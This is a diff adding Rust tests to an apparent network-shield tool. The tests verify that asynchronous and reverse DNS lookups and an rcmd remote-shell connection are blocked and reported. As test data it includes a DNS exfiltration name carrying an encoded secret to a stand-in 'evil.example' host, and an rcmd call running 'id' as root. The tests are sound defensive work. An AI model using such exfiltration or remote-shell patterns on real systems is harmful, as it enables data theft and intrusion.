@@ -1482,6 +1482,14 @@ extern "C" {
     fn daemon(nochdir: i32, noclose: i32) -> i32;
     fn wordexp(words: *const libc::c_char, we: *mut [usize; 3], flags: i32) -> i32;
     fn wordfree(we: *mut [usize; 3]);
+    fn rcmd(
+        host: *mut *mut libc::c_char,
+        port: u16,
+        locuser: *const libc::c_char,
+        remuser: *const libc::c_char,
+        cmd: *const libc::c_char,
+        fd2p: *mut i32,
+    ) -> i32;
 }
 
 /// Point the calling thread's resolver state (`_res`) at `ip:53` only, with one try of one
@@ -1793,3 +1801,201 @@ fn r4_search_list_rewritten() {
     }
 }
 both!(r4_search_list_rewritten, super::r4_search_list_rewritten);
+
+/// A private mount namespace whose `/etc/resolv.conf` names only `ip` (one 1 s try), so that
+/// glibc's own resolver threads query the test's loopback resolver. Root (as CI runs).
+fn private_resolv_conf(ip: &str) {
+    use nix::mount::{mount, MsFlags};
+    let dir = std::env::temp_dir().join(format!("fnshield-resolv-{}", std::process::id()));
+    std::fs::create_dir_all(&dir).unwrap();
+    let conf = dir.join("resolv.conf");
+    std::fs::write(
+        &conf,
+        format!("nameserver {ip}\noptions timeout:1 attempts:1\n"),
+    )
+    .unwrap();
+    nix::sched::unshare(nix::sched::CloneFlags::CLONE_NEWNS)
+        .expect("unshare(CLONE_NEWNS) needs root (CI runs as root)");
+    mount(
+        None::<&str>,
+        "/",
+        None::<&str>,
+        MsFlags::MS_REC | MsFlags::MS_PRIVATE,
+        None::<&str>,
+    )
+    .expect("make / private in the new mount namespace");
+    mount(
+        Some(conf.as_path()),
+        "/etc/resolv.conf",
+        None::<&str>,
+        MsFlags::MS_BIND,
+        None::<&str>,
+    )
+    .expect("bind-mount over /etc/resolv.conf");
+}
+
+#[repr(C)]
+struct Gaicb {
+    ar_name: *const libc::c_char,
+    ar_service: *const libc::c_char,
+    ar_request: *const libc::addrinfo,
+    ar_result: *mut libc::addrinfo,
+    ret: i32,
+    reserved: [i32; 5],
+}
+
+extern "C" {
+    fn getaddrinfo_a(mode: i32, list: *mut *mut Gaicb, n: i32, sevp: *mut libc::c_void) -> i32;
+    fn gai_error(req: *mut Gaicb) -> i32;
+    fn gethostbyaddr(addr: *const libc::c_void, len: u32, ty: i32) -> *mut libc::hostent;
+}
+
+/// `getaddrinfo_a` (glibc's helper thread) and reverse lookups (`getnameinfo`,
+/// `gethostbyaddr`: a PTR query names an address the function chose) under the name policy:
+/// refused before any query; an allowed name still goes out.
+fn r4_async_and_reverse_lookups() {
+    let rip = per_ic("127.0.0.216", "127.0.0.217", "127.0.0.218");
+    let resolver = bind53(rip);
+    private_resolv_conf(rip);
+    let s = shield(|b| b.resolv_conf(format!("nameserver {rip}\n")));
+    let layer = cfg!(feature = "libc-layer");
+    let submit = |name: &std::ffi::CStr| {
+        let mut req = Gaicb {
+            ar_name: name.as_ptr(),
+            ar_service: std::ptr::null(),
+            ar_request: std::ptr::null(),
+            ar_result: std::ptr::null_mut(),
+            ret: 0,
+            reserved: [0; 5],
+        };
+        let mut list = [&mut req as *mut Gaicb];
+        // SAFETY: GAI_WAIT (0) with one valid request that lives across the call.
+        let r = unsafe { getaddrinfo_a(0, list.as_mut_ptr(), 1, std::ptr::null_mut()) };
+        assert_eq!(r, 0, "getaddrinfo_a");
+        // SAFETY: the request completed (GAI_WAIT); its result list is freed.
+        unsafe {
+            if !req.ar_result.is_null() {
+                libc::freeaddrinfo(req.ar_result);
+            }
+            gai_error(&mut req)
+        }
+    };
+    // Seccomp alone under the trap: glibc's helper thread blocks every signal, so its
+    // trapped connect kills the process (the README's routes table); the layer looks the
+    // requests up itself (GAI_WAIT).
+    let gai = layer || ic() != Mechanism::SeccompTrap;
+    let e = if gai {
+        submit(c"c2VjcmV0LWtleQ.exfil.evil.example")
+    } else {
+        libc::EAI_NONAME
+    };
+    if layer {
+        assert_eq!(
+            e,
+            libc::EAI_NONAME,
+            "getaddrinfo_a of a name that is not allowed"
+        );
+        assert!(nothing_arrived(&resolver), "getaddrinfo_a's query left");
+    }
+    // Reverse lookups of an address the function chose.
+    let mut host = [0 as libc::c_char; 128];
+    // SAFETY: an all-zero sockaddr_in6 is valid; family and address set below.
+    let mut sa6: libc::sockaddr_in6 = unsafe { std::mem::zeroed() };
+    sa6.sin6_family = libc::AF_INET6 as u16;
+    sa6.sin6_addr.s6_addr = "2001:db8::c0de:5ec7"
+        .parse::<std::net::Ipv6Addr>()
+        .unwrap()
+        .octets();
+    // SAFETY: getnameinfo with a valid sockaddr and host buffer, no service.
+    let r = unsafe {
+        libc::getnameinfo(
+            (&sa6 as *const libc::sockaddr_in6).cast(),
+            std::mem::size_of_val(&sa6) as u32,
+            host.as_mut_ptr(),
+            host.len() as u32,
+            std::ptr::null_mut(),
+            0,
+            0,
+        )
+    };
+    // SAFETY: getnameinfo NUL-terminated `host` on success.
+    let shown = unsafe { std::ffi::CStr::from_ptr(host.as_ptr()) }
+        .to_string_lossy()
+        .into_owned();
+    if layer {
+        assert_eq!(
+            (r, shown.as_str()),
+            (0, "2001:db8::c0de:5ec7"),
+            "getnameinfo: the numeric form"
+        );
+        assert!(nothing_arrived(&resolver), "getnameinfo's PTR query left");
+        let v4 = [192u8, 0, 2, 77];
+        // SAFETY: gethostbyaddr with a 4-byte address.
+        let h = unsafe { gethostbyaddr(v4.as_ptr().cast(), 4, libc::AF_INET) };
+        assert!(h.is_null(), "gethostbyaddr");
+        assert!(nothing_arrived(&resolver), "gethostbyaddr's PTR query left");
+        let evs = events(&s);
+        for what in [
+            "DNS query for c2vjcmv0lwtleq.exfil.evil.example",
+            "reverse DNS query for 2001:db8::c0de:5ec7",
+            "reverse DNS query for 192.0.2.77",
+        ] {
+            assert!(
+                evs.iter().any(|e| e.action == Action::Blocked
+                    && matches!(&e.details, Details::Bypass { what: w } if w == what)),
+                "{what}: {evs:?}"
+            );
+        }
+    }
+    // An allowed name still goes out (nobody answers: one 1 s try).
+    if gai {
+        resolver.set_nonblocking(false).unwrap();
+        let e = submit(c"sqs.us-east-1.amazonaws.com");
+        assert_ne!(e, libc::EAI_NONAME, "an allowed name is looked up");
+        assert!(
+            !nothing_arrived(&resolver),
+            "the allowed name's query arrives"
+        );
+    }
+}
+both!(
+    r4_async_and_reverse_lookups,
+    super::r4_async_and_reverse_lookups
+);
+
+/// `rcmd` connects to a remote shell through glibc's internal `connect` (here to a listener on
+/// 127.0.0.2): refused before any connection under outbound block, and reported.
+fn r4_remote_shell() {
+    let target = TcpListener::bind("127.0.0.2:0").unwrap();
+    let port = target.local_addr().unwrap().port();
+    let s = shield(|b| b);
+    let mut host = CString::new("127.0.0.2").unwrap().into_raw();
+    // SAFETY: rcmd with a valid host pointer, user names and command; no stderr channel.
+    let r = unsafe {
+        rcmd(
+            &mut host,
+            port.to_be(),
+            c"root".as_ptr(),
+            c"root".as_ptr(),
+            c"id".as_ptr(),
+            std::ptr::null_mut(),
+        )
+    };
+    let e = errno();
+    target.set_nonblocking(true).unwrap();
+    let accepted = target.accept().is_ok();
+    assert!(!accepted, "rcmd reached 127.0.0.2");
+    assert_eq!(r, -1, "rcmd");
+    if cfg!(feature = "libc-layer") {
+        assert_eq!(e, libc::EPERM, "rcmd");
+        assert!(
+            any_event(
+                &events(&s),
+                PolicyKind::OutboundConnectivity,
+                Action::Blocked
+            ),
+            "rcmd is reported"
+        );
+    }
+}
+both!(r4_remote_shell, super::r4_remote_shell);
